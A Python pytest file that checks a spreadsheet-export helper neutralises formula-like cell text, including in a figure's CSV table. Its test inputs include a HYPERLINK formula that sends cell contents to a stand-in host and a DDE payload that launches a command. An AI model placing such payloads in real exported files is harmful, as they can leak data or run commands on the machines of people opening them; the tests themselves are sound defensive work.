"""No name becomes a formula in a table that we write; numbers stay numbers."""

import csv
import io

import pytest

from core.figures.chart import Chart
from core.figures.figure import Figure
from core.system.table_cells import plain_cell

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.mark.parametrize("text", [FORMULA, "+cmd|' /C calc'!A0", "-1+2", "@SUM(1)", "\t=1", "\r=1"])
def test_that_text_that_looks_like_a_formula_is_neutralised(text: str) -> None:
    assert plain_cell(text) == f"'{text}"


@pytest.mark.parametrize("cell", ["cats", "a=b", "-1", "+1.5e-3", "", -3.5, -7, None])
def test_that_numbers_and_other_text_stay(cell: object) -> None:
    assert plain_cell(cell) == cell
    assert type(plain_cell(cell)) is type(cell)


def test_that_a_figure_with_a_hostile_class_has_no_formula_in_its_table() -> None:
    rows = ((FORMULA, -0.25), ("cats", 0.5))
    figure = Figure("f", Chart("", "", "", ()), "words", ("@class", "score"), rows)
    header, first, second = csv.reader(io.StringIO(figure.csv()))
    assert header == ["'@class", "score"]
    assert first == [f"'{FORMULA}", "-0.25"]
    assert second == ["cats", "0.5"]
